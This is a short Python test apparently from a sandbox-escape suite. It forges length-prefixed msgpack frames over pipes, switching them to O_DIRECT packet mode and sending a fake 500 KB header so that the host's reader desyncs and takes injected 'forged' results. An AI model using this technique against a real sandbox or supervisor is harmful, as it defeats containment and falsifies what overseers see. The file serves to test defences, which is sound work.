"""Make the pipes hold packets (O_DIRECT), which a read gives one at a time, and leave some for the next call.

A packet that begins a frame of 500 KB hides that there is more.

Source: pipe(2); "a short read has emptied the pipe"
"""

import fcntl
import os
import struct
import time

import msgpack
from tests.escape.kit import Scene, call_number, frame_of, send

PACKET = 4096
EXPECT = "mine"


def attack(scene: Scene) -> object:
    seq = call_number()
    send(frame_of(16, seq, {"output": "mine"}))
    for fd in (1, 5):
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_DIRECT)
    body = msgpack.packb([16, seq + 1, {"output": "forged", "display": "forged"}])
    forged = (struct.pack(">I", len(body)) + body).ljust(PACKET, b"\0")
    os.write(5, (struct.pack(">I", 500_000) + b"\x93").ljust(PACKET, b"\1") + forged * 10)
    os.write(1, b"of the call before ".ljust(PACKET) * 10)
    time.sleep(1000)
    return "sent"
